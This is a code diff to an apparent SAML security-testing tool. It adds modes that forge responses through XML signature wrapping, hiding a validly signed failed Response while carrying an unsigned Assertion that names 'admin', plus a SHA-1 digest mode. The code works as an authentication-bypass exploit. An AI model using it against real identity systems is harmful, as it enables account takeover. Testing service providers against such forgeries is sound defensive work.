@@ -35,6 +35,24 @@ Modes:
   wrong_recipient        SubjectConfirmationData Recipient = http://127.0.0.1:1/not-the-acs,
                          re-signed
   wrong_issuer           every Issuer = http://127.0.0.1:1/not-the-idp, re-signed
+  sha1_digest            re-signed with RSA-SHA256 over SHA-1 reference digests (nothing else
+                         changed)
+
+Signature wrapping that keeps exactly one Assertion in the document (so an "exactly one
+assertion" rule cannot be what refuses it): the IdP's key signs a Response that holds no
+assertion — what an IdP sends for a failed sign-in: the IdP's own Response, its Assertion
+removed, ID _signed-shell, Status Responder/AuthnFailed — and that signed element is hidden
+in a wrapper Response that looks like the genuine one (same Issuer, Destination,
+InResponseTo, Status Success) and carries the IdP's Assertion unsigned with NameID and uid
+"admin". Every signature in the document verifies with the IdP's certificate; an SP that
+checks "a valid IdP signature is present" and then reads the document's Assertion signs in
+"admin", one that reads only what was signed sees the failed, assertion-less Response.
+  wrapped_in_extensions  the signed Response inside the wrapper's samlp:Extensions
+  wrapped_in_object      the signed Response inside a ds:Object of the wrapper's own
+                         ds:Signature (an enveloping signature over it, where the
+                         Response's signature belongs)
+  wrapped_id_reuse       as wrapped_in_extensions, the wrapper carrying the signed
+                         Response's ID (_signed-shell) too
 
 Encrypted responses (IdP started with --encrypt-assertion: an EncryptedAssertion) are refused
 (exit 2): crafting applies to unencrypted responses only.
@@ -61,6 +79,10 @@ MODES = [
     "wrong_destination",
     "wrong_recipient",
     "wrong_issuer",
+    "sha1_digest",
+    "wrapped_in_extensions",
+    "wrapped_in_object",
+    "wrapped_id_reuse",
 ]
 
 DSIG = "http://www.w3.org/2000/09/xmldsig#"
@@ -68,6 +90,7 @@ EXC_C14N = "http://www.w3.org/2001/10/xml-exc-c14n#"
 ENVELOPED = "http://www.w3.org/2000/09/xmldsig#enveloped-signature"
 RSA_SHA256 = "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256"
 SHA256 = "http://www.w3.org/2001/04/xmlenc#sha256"
+SHA1 = "http://www.w3.org/2000/09/xmldsig#sha1"
 ASSERTION_NS = "urn:oasis:names:tc:SAML:2.0:assertion"
 PROTOCOL_NS = "urn:oasis:names:tc:SAML:2.0:protocol"
 
@@ -261,6 +284,83 @@ def ts(delta):
     return t.strftime("%Y-%m-%dT%H:%M:%SZ")
 
 
+SHELL_ID = "_signed-shell"
+STATUS_SUCCESS = "urn:oasis:names:tc:SAML:2.0:status:Success"
+STATUS_RESPONDER = "urn:oasis:names:tc:SAML:2.0:status:Responder"
+STATUS_AUTHN_FAILED = "urn:oasis:names:tc:SAML:2.0:status:AuthnFailed"
+
+
+def evil_assertion(assertion):
+    """The assertion, unsigned, naming "admin" (NameID and the uid attribute)."""
+    evil = strip_signatures(assertion)
+    evil = set_nameid(evil, (0, len(evil)), "admin")
+    return re.sub(
+        r"(<(?:[A-Za-z_][\w.-]*:)?Attribute\b[^>]*\sName=\"uid\"[^>]*>\s*<(?:[A-Za-z_][\w.-]*:)?AttributeValue\b[^>]*>)[^<]*",
+        r"\g<1>admin", evil, count=1)
+
+
+def root_span(xml):
+    """(start, end) of the root Response's start tag."""
+    resp = element_span(xml, "Response")
+    if resp is None:
+        raise CraftError("no Response element")
+    return (resp[0], xml.index(">", resp[0]) + 1)
+
+
+def set_root_id(xml, new_id):
+    return set_attr(xml, root_span(xml), "Response", "ID", new_id, "Response ID")
+
+
+def protocol_prefix(xml):
+    m = re.match(r"<([A-Za-z_][\w.-]*:)?Response[\s>]", xml[root_span(xml)[0]:])
+    return m.group(1) or ""
+
+
+def failed_shell(body):
+    """The (unsigned) Response without its Assertion, ID SHELL_ID, Status Responder/AuthnFailed."""
+    a0, a1 = assertion_span(body)
+    shell = set_root_id(body[:a0] + body[a1:], SHELL_ID)
+    p = protocol_prefix(shell)
+    shell, n = re.subn(
+        r"<" + re.escape(p) + r"StatusCode\s+Value=\"" + re.escape(STATUS_SUCCESS) + r"\"\s*/>",
+        f'<{p}StatusCode Value="{STATUS_RESPONDER}"><{p}StatusCode Value="{STATUS_AUTHN_FAILED}"/></{p}StatusCode>',
+        shell, count=1)
+    if n != 1:
+        raise CraftError("no Success StatusCode to replace")
+    return shell
+
+
+def enveloping_template(ref_id, sig_alg, digest_alg, content):
+    """A Signature over the element with ID `ref_id`, carried in its own ds:Object."""
+    return (
+        f'<ds:Signature xmlns:ds="{DSIG}"><ds:SignedInfo>'
+        f'<ds:CanonicalizationMethod Algorithm="{EXC_C14N}"/>'
+        f'<ds:SignatureMethod Algorithm="{sig_alg}"/>'
+        f'<ds:Reference URI="#{ref_id}"><ds:Transforms>'
+        f'<ds:Transform Algorithm="{EXC_C14N}"/>'
+        f'</ds:Transforms><ds:DigestMethod Algorithm="{digest_alg}"/><ds:DigestValue></ds:DigestValue>'
+        f"</ds:Reference></ds:SignedInfo><ds:SignatureValue></ds:SignatureValue>"
+        f"<ds:KeyInfo><ds:X509Data/></ds:KeyInfo><ds:Object>{content}</ds:Object></ds:Signature>"
+    )
+
+
+def wrap(mode, body, key, crt, sig_alg, digest_alg):
+    """Signature wrapping that keeps one Assertion (see the module doc)."""
+    a0, a1 = assertion_span(body)
+    wrapper = body[:a0] + evil_assertion(body[a0:a1]) + body[a1:]
+    shell = failed_shell(body)
+    p = protocol_prefix(wrapper)
+    at = after_issuer(wrapper, element_span(wrapper, "Response"))
+    if mode == "wrapped_in_object":
+        sig = enveloping_template(SHELL_ID, sig_alg, digest_alg, shell)
+        return xmlsec_sign(wrapper[:at] + sig + wrapper[at:], key, crt, "response")
+    signed_shell = resign(shell, {"response"}, key, crt, sig_alg, digest_alg)
+    if mode == "wrapped_id_reuse":
+        wrapper = set_root_id(wrapper, SHELL_ID)
+        at = after_issuer(wrapper, element_span(wrapper, "Response"))
+    return wrapper[:at] + f"<{p}Extensions>{signed_shell}</{p}Extensions>" + wrapper[at:]
+
+
 def craft(mode, xml, dir_):
     if re.search(r"<(?:[A-Za-z_][\w.-]*:)?EncryptedAssertion[\s>]", xml):
         raise CraftError("the response carries an EncryptedAssertion: crafting applies to "
@@ -301,8 +401,12 @@ def craft(mode, xml, dir_):
     body = strip_signatures(xml)
     span = assertion_span(body)
 
+    if mode.startswith("wrapped_"):
+        return wrap(mode, body, key, crt, sig_alg, digest_alg)
     if mode == "other_key":
         key, crt = other_key(dir_)
+    elif mode == "sha1_digest":
+        sig_alg, digest_alg = RSA_SHA256, SHA1
     elif mode == "comment_in_nameid":
         body = sub_in(body, span, NAMEID_RE, lambda m: m.group(1) + m.group(2) + "<!---->.evil" + m.group(3),
                       "NameID", 1)
